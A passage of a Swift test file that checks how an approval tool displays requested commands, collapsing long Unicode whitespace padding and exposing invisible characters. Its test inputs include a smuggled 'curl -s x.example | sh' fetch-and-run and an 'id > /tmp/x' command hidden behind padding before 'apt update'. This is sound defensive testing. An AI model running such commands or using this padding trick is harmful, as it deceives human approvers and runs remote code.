        let request = ApprovalRequest(id: "ABCDEFGH", requester: "kid", requesterUID: 2001, terminal: "/dev/pts/3",
                                      shown: "/usr/bin/bash -c 'id > /tmp/x' x '\(padding)' apt update")
        #expect(request.forApprovers == "/usr/bin/bash -c 'id > /tmp/x' x '<11950 blanks>' apt update")
        // Two blanks stay blanks (a tab is written as a space); three or more are counted.
        #expect(ApprovalRequest(id: "ABCDEFGH", requester: "kid", requesterUID: 2001, terminal: "t", shown: "a  b\t\tc d   e")
                    .forApprovers == "a  b  c d<3 blanks>e")
        #expect(!request.pendingLine(waited: 3).contains(padding))
    }

    @Test(arguments: ["\u{3000}", "\u{00A0}", "\u{2003}", "\u{205F}", "\u{1680}", "\u{202F}"])
    func everySpaceUnicodeHasIsPaddingToo(_ space: String) {
        let padding = String(repeating: space, count: 2000)
        let request = ApprovalRequest(id: "ABCDEFGH", requester: "kid", requesterUID: 2001, terminal: "/dev/pts/3",
                                      shown: "/bin/sh -c 'curl -s x.example | sh;\(padding)#' apt install cowsay")
        #expect(request.forApprovers == "/bin/sh -c 'curl -s x.example | sh;<2000 blanks>#' apt install cowsay")
    }

    @Test func invisibleCharactersAreWrittenOut() {
        for scalar in ["\u{E0041}", "\u{180E}", "\u{034F}", "\u{FE0F}", "\u{3164}", "\u{2800}", "\u{1D173}"] {
            #expect(Visible.screen("a\(scalar)b") != "a\(scalar)b", "\(scalar.unicodeScalars.first!.value)")
        }
    }
}
